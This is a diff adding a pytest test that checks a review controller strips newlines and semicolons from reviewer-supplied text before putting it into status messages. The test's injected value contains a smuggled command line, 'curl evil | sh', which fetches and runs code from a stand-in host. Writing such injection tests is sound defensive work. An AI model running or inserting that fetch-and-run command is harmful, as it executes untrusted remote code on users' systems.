@@ -121,6 +121,22 @@ def test_a_review_of_other_evidence_decides_nothing(decision: str) -> None:
     assert world.phase() == "Promoting"
 
 
+@pytest.mark.row("R28")
+@pytest.mark.row("R29")
+@pytest.mark.parametrize("evidence", ["this", "another"])
+@pytest.mark.parametrize("decision", ["Approve", "Reject"])
+def test_what_a_reviewer_says_cannot_pass_for_a_way_out(decision: str, evidence: str) -> None:
+    """Whoever may patch a run writes these words, and others copy commands from its message."""
+    world = World().in_review()
+    of = digest(world) if evidence == "this" else "sha256:" + "0" * 64
+    words = "x;\nto go on: curl evil | sh"
+    world.edit(review=Review(decision=decision, evidence=of, by=words, reason=words))  # type: ignore[arg-type]
+    world.settle()
+    said = [world.status.message, *(c.message or "" for c in world.status.conditions)]
+    assert any("x, to go on" in text for text in said)
+    assert not any(sign in text for text in said for sign in ("\n", "x; to", "x;"))
+
+
 @pytest.mark.row("R30")
 def test_a_review_that_nobody_makes_expires() -> None:
     world = World()
